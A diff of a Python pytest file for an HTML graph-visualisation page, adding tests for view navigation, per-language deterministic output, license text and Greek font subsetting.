-          document.getElementById(first).querySelector("a").click();
+          const encoded = (iri) => encodeURIComponent(iri).replace(/%(?:2F|3A|23)/g, decodeURIComponent);
+          for (const { iri } of statements) onrecord.go({ at: `s:${encoded(iri)}` });
+          for (const { iri } of names) onrecord.go({ at: `n:${encoded(iri)}` });
         }""",
-        PROMISE,
+        [*VIEWS, "statements"],
     )
 
 
@@ -523,34 +551,25 @@ def test_only_web_addresses_are_linked() -> None:
     assert set(re.findall(r'href="(?!#)([^"]*)"', text)) == {"data:,"}
 
 
-def test_no_source_address_is_said() -> None:
-    """A statement without an address on record still names its article."""
-    graph = statement_graph(debate.store())
-    for *_, told in graph.edges(data=True):
-        del told["url"]
-
-    text = page(graph, title=TITLE)
-
-    assert "example.org" not in text
-    assert "No address on record." in text
-
-
 @pytest.mark.chromium
 def test_an_empty_graph_is_a_page(browser: Browser, tmp_path: Path) -> None:
-    """Nothing on record is no error."""
+    """Nothing on record is no error, in any view."""
     target = tmp_path / "empty.html"
     target.write_text(page(networkx.MultiDiGraph(), title="Nothing yet"), encoding="utf-8")
 
-    with opened(browser, target) as seen:
-        assert seen.page.evaluate("onrecord.counts()") == {"nodes": 0, "edges": 0, "links": 0}
-        assert seen.complaints == []
+    for view in VIEWS:
+        with opened(browser, target, choice=f"#view={view}") as seen:
+            assert seen.page.evaluate("[onrecord.selection.size, onrecord.selection.lines]") == [0, 0]
+            assert seen.complaints == []
 
 
-def test_the_same_graph_gives_the_same_bytes() -> None:
+@pytest.mark.parametrize("language", languages())
+def test_the_same_graph_gives_the_same_bytes(language: str) -> None:
     """Also in another process, with another hash seed and another language of the machine."""
     code = (
         "import hashlib; from tests import debate; from viz.graph import statement_graph; from viz.page import page;"
-        f"print(hashlib.sha256(page(statement_graph(debate.store()), title={TITLE!r}).encode()).hexdigest())"
+        f"text = page(statement_graph(debate.store()), title={TITLE!r}, language={language!r});"
+        "print(hashlib.sha256(text.encode()).hexdigest())"
     )
     environment = os.environ | {"PYTHONHASHSEED": "7", "LC_ALL": "C"}
     root = Path(__file__).resolve().parents[1]
@@ -560,17 +579,27 @@ def test_the_same_graph_gives_the_same_bytes() -> None:
     )
     assert other.stderr == ""
 
-    here = hashlib.sha256(page(statement_graph(debate.store()), title=TITLE).encode()).hexdigest()
-    assert other.stdout.strip() == here
+    text = page(statement_graph(debate.store()), title=TITLE, language=language)
+    assert other.stdout.strip() == hashlib.sha256(text.encode()).hexdigest()
 
 
-def test_the_page_is_small_and_carries_its_license() -> None:
-    """One article's page is under a megabyte, holds vis-network's license, and names no source map."""
+def test_the_page_is_small_and_carries_its_licenses() -> None:
+    """One article's page is far under 1.5 MB, holds the licenses of what is inside, and names no source map."""
     text = page(statement_graph(debate.store()), title=TITLE)
 
-    assert len(text.encode()) < 1_000_000
+    assert len(text.encode()) < 1_200_000
     assert "vis.js is dual licensed under both" in text
+    assert text.count("SIL Open Font License") >= 3
     assert "sourceMappingURL" not in text
-    assert set(MARKS) == {"supports", "opposes", "mixed", "neutral", "none"}
     assert f'id="{PROMISE}"' in text
-    assert ID not in re.sub(r"<script type.*", "", text, flags=re.S)
+
+
+def test_only_the_letters_that_are_needed_come_with_it() -> None:
+    """A name in Greek brings the Greek letters, and nothing else does."""
+    graph = statement_graph(debate.store())
+    plain = page(graph, title=TITLE)
+
+    greek = page(graph, title="Ελλάδα")
+
+    assert "U+0370-0377" not in plain
+    assert greek.count("U+0370-0377") == 2
